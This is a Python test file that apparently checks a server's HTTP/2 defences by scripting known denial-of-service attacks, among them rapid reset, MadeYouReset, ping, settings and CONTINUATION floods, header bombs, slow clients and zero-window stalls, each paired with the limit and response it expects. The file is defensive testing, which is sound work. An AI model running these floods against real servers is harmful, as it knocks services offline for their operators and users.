# SPDX-License-Identifier: Apache-2.0
"""Attacks on HTTP/2. Their frames one by one are in ../../wire/http2/cases."""

from lib import h2 as wire
from lib.h2 import encode, literal
from crowd import CLOSE, attack
from h1 import FULL

OPEN = wire.PREFACE + wire.settings((wire.INITIAL_WINDOW_SIZE, 1 << 20)) + wire.settings(ack=True) + wire.window(0, 1 << 20)
CALM = "ENHANCE_YOUR_CALM"


def request(path="/", method="GET", extra=()):
    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a"), *extra]


NEVER = encode(request("/never"))
UPLOAD = encode(request("/never", "POST"))
LARGE = encode(request("/large"))
PAGE = encode(request("/page"))


def h2(name, answer, ends="", limit="", kind="h2", **more):
    """The script begins after the preface."""

    def add(script):
        def whole(client):
            yield OPEN
            yield from script(client)

        return attack(kind, name, answer, ends, limit, **more)(whole)

    return add


def flood(name, answer, ends, limit="", **more):
    return h2(name, answer, ends, limit, loud=True, **more)


def streams():
    return range(1, 1 << 30, 2)


def forever(octets, n=200):
    while True:
        yield octets * n


def statuses(client):
    """The statuses of the answers so far; only for few and short ones."""
    decoder, blocks = wire.Decoder(), []
    for kind, _, _, payload in wire.split(client.received)[0]:
        blocks += [dict(decoder.decode(payload))[":status"]] if kind == wire.HEADERS else []
    return blocks


def resets(client):
    frames = wire.split(client.received)[0]
    return [wire.ERRORS[int.from_bytes(payload, "big")] for kind, _, _, payload in frames if kind == wire.RST_STREAM]


def pings():
    while True:
        yield 0.1
        yield wire.ping()


# ---- resets


@flood("rapid reset (CVE-2023-44487)", f"GOAWAY {CALM}", CALM, ":h2_max_resets, :h2_reset_rate")
def rapid_reset(_):
    for s in streams():
        yield wire.headers(s, NEVER, end=True) + wire.rst(s)


@flood("rapid reset of requests in progress", f"GOAWAY {CALM}", CALM, ":h2_max_resets, :h2_reset_rate")
def rapid_reset_slowly(_):
    for s in streams():
        yield wire.headers(s, NEVER, end=True)
        yield 0.001
        yield wire.rst(s)


@flood("resets that we are made to send (CVE-2025-8671)", f"GOAWAY {CALM}", CALM, ":h2_own_resets")
def made_you_reset(_):
    for s in streams():
        yield wire.headers(s, NEVER, end=True) + wire.window(s, (1 << 31) - 1)


@flood("malformed heads", f"GOAWAY {CALM}", CALM, ":h2_own_resets")
def malformed(_):
    block = encode(request(extra=[("Upper", "1")]))
    for s in streams():
        yield wire.headers(s, block, end=True)


# ---- frames that cost more to answer than to send


@flood("PING (CVE-2019-9512)", f"GOAWAY {CALM}", CALM, ":h2_pings")
def ping(_):
    return forever(wire.ping())


@flood("SETTINGS (CVE-2019-9515)", f"GOAWAY {CALM}", CALM, ":h2_settings")
def settings(_):
    return forever(wire.settings((0x99, 1)))


@flood("empty DATA (CVE-2019-9518)", f"GOAWAY {CALM}", CALM, ":h2_empty_data")
def empty_data(_):
    yield wire.headers(1, UPLOAD)
    yield from forever(wire.data(1))


@flood("WINDOW_UPDATE", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def window_update(_):
    return forever(wire.window(0, 1))


@flood("PRIORITY (CVE-2019-9513)", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def priority(_):
    return forever(wire.priority(3, 1))


@flood("PRIORITY_UPDATE", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def priority_update(_):
    return forever(wire.frame(wire.PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=0"))


@flood("GOAWAY again and again", "closed", "closed")
def goaway(_):
    return forever(wire.goaway())


@flood("GOAWAY again and again, beside a request that goes on", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def goaway_beside(_):
    yield wire.headers(1, NEVER, end=True)
    yield from forever(wire.goaway())


@flood("unknown frames", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def unknown(_):
    return forever(wire.frame(0x42, 0, 0, b"x" * 16))


@flood("DATA by the octet, beyond the window", f"RST_STREAM FLOW_CONTROL_ERROR, then GOAWAY {CALM}", CALM, ":h2_stream_window, :h2_other_frames", h2_stream_window=4096)
def small_data(_):
    yield wire.headers(1, UPLOAD)
    yield from forever(wire.data(1, b"x"), 100)


# ---- heads


@flood("header bomb (CVE-2016-6581, CVE-2026-49975)", f"GOAWAY {CALM}", CALM, ":h2_max_header_bytes, :h2_max_header_fields")
def header_bomb(_):
    yield wire.headers(1, encode(request()) + literal("x", "v" * 3900, 0x40) + b"\xbe" * 11000, end=True, flags=0)
    while True:
        yield wire.continuation(1, b"\xbe" * 16384, False)


@flood("heads that are too large, one after the other", "431, and served", "", ":max_header_block, :max_header_count")
def large_heads(_):
    yield wire.headers(1, encode(request()) + literal("x", "v" * 3900, 0x40), end=True)
    for s in range(3, 1 << 30, 2):
        yield wire.headers(s, encode(request()) + b"\xbe" * 30, end=True)
        if s % 50 == 1:
            yield 0.01


@h2("header bombs under the limits, on all streams", "served", "", ":h2_max_streams")
def small_bombs(_):
    yield wire.headers(1, UPLOAD + literal("x", "v" * 3900, 0x40))
    for s in range(3, 201, 2):
        yield wire.headers(s, UPLOAD + b"\xbe" * 7)
    yield from pings()


@flood("CONTINUATION (CVE-2024-28182)", f"GOAWAY {CALM}", CALM, ":h2_max_continuations")
def continuations(_):
    yield wire.headers(1, encode(request()), flags=0)
    while True:
        yield wire.continuation(1, b"", False)


# ---- slow clients


@attack("h2", "a preface, and no SETTINGS", "GOAWAY SETTINGS_TIMEOUT", "SETTINGS_TIMEOUT", ":h2_settings_timeout", clients=100, h2_settings_timeout=400)
def preface(_):
    yield wire.PREFACE
    while True:
        yield 60.0


@h2("connections without a request", "GOAWAY NO_ERROR", "NO_ERROR", ":idle_timeout", clients=100, idle_timeout=300)
def idle(_):
    while True:
        yield 60.0


@h2("heads by the byte", f"GOAWAY {CALM}", CALM, ":header_timeout", clients=100, header_timeout=400)
def slow_heads(_):
    block = encode(request())
    yield wire.frame(wire.HEADERS, wire.END_STREAM, 1, block[:1], len(block))[:10]
    for at in range(1, len(block)):
        yield 0.05
        yield block[at : at + 1]
    while True:
        yield 60.0


@h2("more unfinished heads than there may be connections", "closed, oldest first", "closed reset", ":max_connections", **FULL)
def crowd_heads(_):
    yield wire.frame(wire.HEADERS, wire.END_STREAM, 1, encode(request())[:5], 40)
    while True:
        yield 60.0


@h2("bodies by the byte", "408 on the stream", "408", ":body_rate, :body_grace", clients=20, body_grace=400)
def slow_bodies(client):
    yield wire.headers(1, encode(request("/read", "POST")))
    while not statuses(client):
        yield 0.05
        yield wire.data(1, b"x")
    for status in statuses(client):
        client.note(status)
    yield CLOSE


# ---- windows


@h2("windows of zero", "RST_STREAM CANCEL", "CANCEL", ":write_timeout, :window, :h2_max_streams", write_timeout=400)
def zero_window(client):
    yield wire.settings((wire.INITIAL_WINDOW_SIZE, 0))
    yield b"".join(wire.headers(s, LARGE, end=True) for s in range(1, 201, 2))
    while len(resets(client)) < 100:
        yield 0.1
        yield wire.ping()
    for code in resets(client):
        client.note(code)
    yield CLOSE


@h2("windows of an octet", "RST_STREAM CANCEL", "CANCEL", ":response_rate, :write_timeout, :window", write_timeout=400)
def octet_windows(client):
    yield wire.settings((wire.INITIAL_WINDOW_SIZE, 0))
    yield b"".join(wire.headers(s, LARGE, end=True) for s in range(1, 41, 2))
    while len(resets(client)) < 20:
        yield 0.05
        yield b"".join(wire.window(s, 1) for s in range(1, 41, 2))
    for code in resets(client):
        client.note(code)
    yield CLOSE


def long_ago(client):
    """Enough streams for the first one to be forgotten."""
    for s in range(1, 143, 2):
        yield wire.headers(s, encode(request()), end=True)
        while wire.data(s, b"", end=True)[5:9] not in client.received:
            yield 0.002


@flood("DATA for streams of long ago", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def old_data(client):
    yield from long_ago(client)
    yield from forever(wire.data(1, b"", end=True))


@flood("heads for streams of long ago", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def old_heads(client):
    yield from long_ago(client)
    yield from forever(wire.headers(1, PAGE, end=True))


@h2("windows of zero, on many streams", "served: a handler that waits for its client occupies no slot", "", ":share, :window, :h2_max_streams", clients=2, window=65536)
def many_zero_windows(_):
    yield wire.settings((wire.INITIAL_WINDOW_SIZE, 0))
    yield b"".join(wire.headers(s, LARGE, end=True) for s in range(1, 201, 2))
    yield from pings()


@attack("h2", "one window for many streams, never opened", "served: a handler that waits for its client occupies no slot", "", ":share, :window, :h2_max_streams", clients=2, window=65536)
def many_of_one_window(_):
    yield wire.PREFACE + wire.settings((wire.INITIAL_WINDOW_SIZE, 1 << 20)) + wire.settings(ack=True)
    yield b"".join(wire.headers(s, LARGE, end=True) for s in range(1, 201, 2))
    yield from pings()


@h2("uploads just above the least rate, on many streams", "served: a handler that waits for its client occupies no slot", "", ":share, :body_rate, :h2_max_streams", clients=2)
def many_uploads(_):
    for s in range(1, 141, 2):
        yield wire.headers(s, encode(request("/read", "POST")))
    while True:
        yield 0.5
        yield b"".join(wire.data(s, bytes(130)) for s in range(1, 141, 2))


@flood("windows by the octet (CVE-2019-9511)", f"GOAWAY {CALM}", CALM, ":h2_other_frames")
def dribble(_):
    """On few streams: a hundred answers for each connection would be an attack of another kind, which is load."""
    yield wire.settings((wire.INITIAL_WINDOW_SIZE, 0))
    yield b"".join(wire.headers(s, PAGE, end=True) for s in range(1, 21, 2))
    while True:
        yield b"".join(wire.window(s, 1) for s in range(1, 21, 2)) * 10


@h2("bodies that nobody reads", "stored, up to the windows", "", ":h2_stream_window, :h2_max_streams")
def full_windows(_):
    for s in range(1, 201, 2):
        yield wire.headers(s, UPLOAD) + wire.data(s, bytes(16384)) * 4
    yield from pings()


@h2("never reading (CVE-2019-9517)", "cut", "reset", ":write_timeout, :window", reads=False, small=True, write_timeout=400)
def never_reading(_):
    yield b"".join(wire.headers(s, LARGE, end=True) for s in range(1, 201, 2))
    while True:
        yield 60.0


@flood("more streams than there may be", f"GOAWAY {CALM}", CALM, ":h2_max_streams, :h2_max_resets")
def many_streams(_):
    for s in streams():
        yield wire.headers(s, UPLOAD)
